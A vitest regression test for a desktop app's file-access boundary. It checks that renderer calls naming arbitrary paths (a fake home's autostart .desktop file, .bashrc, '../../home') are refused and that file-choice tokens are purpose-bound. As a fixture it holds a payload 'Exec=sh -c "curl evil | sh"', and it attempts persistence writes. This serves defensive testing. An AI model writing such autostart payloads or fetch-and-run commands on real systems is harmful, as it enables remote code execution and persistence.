import { promises as fs } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { STRONG_PASSPHRASE, createTestCore, createTestVault, listFiles } from './support/vaultFixture';

/**
 * The review wrote a .desktop autostart file and ~/.bashrc (in a fake home) through dispatch, by
 * handing file paths to reports.save, vault.backup and the like. Now the renderer never names a
 * file: only a dialog's one-time token or a vault this device knows. These are the same attempts.
 */
describe('files belong to the main side', () => {
  it('refuses every path a page makes up, and writes nothing into a fake home', async () => {
    const t = await createTestCore();
    const { folder, session } = await createTestVault(t);
    const { id: caseId } = await t.call('cases.create', { pseudonym: 'Familie Eik', phase: 'pregnancy' });
    const home = join(t.root, 'home');
    await fs.mkdir(join(home, '.config', 'autostart'), { recursive: true });
    const bashrc = join(home, '.bashrc');
    const autostart = join(home, '.config', 'autostart', 'dyade.desktop');
    const payload = '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n';
    const madeUp = 'ft_AAAAAAAAAAAAAAAAAAAAAAAA';

    const attempts: Array<[string, unknown]> = [
      ['reports.save', { kind: 'case-markdown', path: autostart, caseId, text: payload }],
      ['reports.save', { kind: 'case-markdown', file: autostart, caseId, text: payload }],
      ['reports.save', { kind: 'case-markdown', file: madeUp, caseId, text: payload }],
      ['reports.savePdf', { kind: 'case', id: caseId, path: bashrc }],
      ['audit.export', { path: bashrc, format: 'csv' }],
      ['audit.export', { file: bashrc, format: 'csv' }],
      ['exchange.export', { caseIds: [caseId], passphrase: 'kwartel fiets ochtend zeventig', path: bashrc }],
      ['exchange.preview', { path: bashrc, passphrase: 'x' }],
      ['exchange.import', { file: madeUp, passphrase: 'x' }],
      ['vault.backup', { folder: join(home, '.config', 'autostart') }],
      ['vault.backup', { folder: madeUp }],
      ['vaults.add', { path: home }],
      ['vaults.inspect', { path: home }],
      ['vault.restore', { backupPath: folder, folder: home }],
      ['vault.restore', { backup: { vault: folder, backup: '../../home' }, folder: madeUp }],
    ];
    for (const [method, input] of attempts) {
      const error = await t.fail(method as never, input);
      expect([method, ['INVALID_INPUT', 'FILE_CHOICE_EXPIRED', 'NOT_FOUND'].includes(error.code)]).toEqual([method, true]);
    }
    expect(await listFiles(home)).toEqual([]);

    // A token is for its purpose only: a report's choice does not take a backup, an exchange file or the audit log.
    const reportChoice = await t.chooseSaveFile('report', bashrc);
    expect(await t.fail('vault.backup', { folder: reportChoice })).toMatchObject({ code: 'FILE_CHOICE_EXPIRED', details: { reason: 'other-purpose' } });
    expect(await t.fail('audit.export', { file: reportChoice, format: 'csv' })).toMatchObject({ code: 'FILE_CHOICE_EXPIRED' });
    expect(await t.fail('exchange.import', { file: reportChoice, passphrase: 'x' })).toMatchObject({ code: 'FILE_CHOICE_EXPIRED' });
    expect(await listFiles(home)).toEqual([]);

    // Vaults are named by the folders vaults.list gave: another folder is not unlocked, inspected or restored from.
    await t.call('vault.lock');
    expect(await t.fail('vault.unlock', { path: home, memberId: session.member.id, passphrase: STRONG_PASSPHRASE })).toMatchObject({
      code: 'NOT_FOUND',
      details: { reason: 'unknown-vault' },
    });
    const automatic = { vault: folder, backup: '2020-01-01T00-00-00Z' };
    expect(await t.fail('vault.restore', { backup: automatic, folder: await t.chooseFolder('restoreTarget', join(home, 'r')) })).toMatchObject({
      code: 'NOT_FOUND',
      details: { reason: 'unknown-backup' },
    });
    expect(await listFiles(home)).toEqual([]);
  });

  it('restores the automatic backup a known vault offers, by name, into a folder chosen for it; the choice is then used up', async () => {
    const t = await createTestCore();
    const { folder, session } = await createTestVault(t);
    await t.call('vault.lock');
    const info = await t.call('vaults.inspect', { path: folder });
    const name = info.newestBackup?.split('/').pop() ?? '';
    const target = await t.chooseFolder('restoreTarget', join(t.root, 'teruggezet'));
    const restored = await t.call('vault.restore', { backup: { vault: folder, backup: name }, folder: target });
    expect(restored.path).toBe(join(t.root, 'teruggezet'));
    expect(await t.fail('vault.restore', { backup: { vault: folder, backup: name }, folder: target })).toMatchObject({ code: 'FILE_CHOICE_EXPIRED' });
    // The restored vault is known now, so it unlocks by its path.
    expect((await t.call('vault.unlock', { path: restored.path, memberId: session.member.id, passphrase: STRONG_PASSPHRASE })).path).toBe(restored.path);
  });
});
